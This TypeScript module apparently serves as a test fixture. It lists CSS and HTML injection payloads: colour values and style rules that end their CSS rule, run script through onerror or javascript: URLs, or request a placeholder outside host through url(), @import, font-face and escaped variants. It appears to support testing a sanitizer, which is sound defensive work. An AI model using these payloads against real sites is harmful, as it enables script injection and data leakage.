import { elsewhere, inStyleEscapes, runs } from './payload.ts'

/** Values for colour fields, and styles for formatted texts: those that run, request another host, or end their CSS rule. */
export const coloursThatCall: readonly string[] = [
  `red;background:url(${elsewhere}/c1)`,
  `red}*{background:url(${elsewhere}/c2)}`,
  `red}</style><img src=x onerror=${runs}>`,
  `red"><img src=x onerror=${runs}>`,
  `url(${elsewhere}/c3)`,
  `url("${elsewhere}/c4")`,
  `url(javascript:${runs})`,
  `image-set("${elsewhere}/c5" 1x)`,
  `-webkit-image-set(url(${elsewhere}/c6) 1x)`,
  `cross-fade(url(${elsewhere}/c7),url(${elsewhere}/c8),50%)`,
  `expression(${runs})`,
  `var(--x,url(${elsewhere}/c9))`,
  `${inStyleEscapes('url')}(${elsewhere}/c10)`,
  `u\\rl(${elsewhere}/c11)`,
  `ur/**/l(${elsewhere}/c12)`,
  `red/*`,
  `red*/;@import "${elsewhere}/c13"`,
  `#fff;behavior:url(${elsewhere}/c14)`,
  `#fff;-moz-binding:url(${elsewhere}/c15#x)`,
  `#ffffff\n;background:url(${elsewhere}/c16)`,
  `red !important;list-style:url(${elsewhere}/c17);display:list-item`,
  `red;cursor:url(${elsewhere}/c18),auto`,
  `red;content:url(${elsewhere}/c19)`,
  `red;border-image:url(${elsewhere}/c20) 1`,
  `red;mask:url(${elsewhere}/c21)`,
  `red;filter:url(${elsewhere}/c22#x)`,
  `red;clip-path:url(${elsewhere}/c23#x)`,
  `red;offset-path:url(${elsewhere}/c24#x)`,
  `red;shape-outside:url(${elsewhere}/c25)`,
  `red;background-image:attr(data-x type(<url>),url(${elsewhere}/c26))`,
]

const rules = [
  `@import "${elsewhere}/s1";`,
  `@import url(${elsewhere}/s2) layer(x) supports(display:grid);`,
  `@\\69mport "${elsewhere}/s3";`,
  `*{background:url(${elsewhere}/s4)}`,
  `@font-face{font-family:x;src:url(${elsewhere}/s5)}*{font-family:x}`,
  `*::before{content:url(${elsewhere}/s6)}`,
  `body{background:u\\72l(${elsewhere}/s7)}`,
  `@namespace "${elsewhere}/s8";`,
  `@layer x{*{cursor:url(${elsewhere}/s9),auto}}`,
  `:root{--x:url(${elsewhere}/s10)}*{background:var(--x)}`,
  `a[href]{background:url(${elsewhere}/s11)}`,
  `@keyframes x{from{background:url(${elsewhere}/s12)}}*{animation:x 1s}`,
]

export const stylesThatCall: readonly string[] = [
  ...coloursThatCall.map((colour) => `<p style="color:${colour.replaceAll('"', '&quot;')}">word</p>`),
  ...rules.flatMap((rule) => [
    `<style>${rule}</style>`,
    `<svg><style>${rule}</style></svg>`,
    `<p>word</p><style type=text/css media=all>${rule}`,
    `<link rel=stylesheet href="data:text/css,${encodeURIComponent(rule)}">`,
  ]),
]
